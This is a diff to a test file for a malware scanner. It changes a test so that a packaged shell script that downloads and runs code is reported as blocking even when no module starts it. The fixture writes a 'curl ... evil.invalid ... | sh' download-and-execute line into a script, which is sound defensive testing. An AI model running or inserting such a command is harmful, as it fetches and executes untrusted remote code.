@@ -230,13 +230,13 @@ def test_a_test_that_downloads_and_runs_is_told_and_does_not_block(tmp_path: Pat
     assert report.blocking == ()
 
 
-def test_a_script_that_downloads_and_runs_blocks_once_a_module_starts_it(tmp_path: Path) -> None:
+def test_a_packaged_script_that_downloads_and_runs_blocks_started_or_not(tmp_path: Path) -> None:
     folder = write(tmp_path)
     script = folder / "acme_tool" / "setup-data.sh"
     script.write_text("#!/bin/sh\n# curl is needed\ncurl -s http://evil.invalid/x | sh\n")
     alone = scan(folder, scanners=[MalwareScanner()])
     assert [(f.rule, f.line) for f in alone.findings] == [("malware/download-and-run", 3)]
-    assert alone.blocking == ()
+    assert alone.blocking == alone.findings
     start = "import subprocess\nsubprocess.Popen(['sh', 'setup-data.sh'])"
     assert "embedded-payload" in blocking(tmp_path, core=start)
 
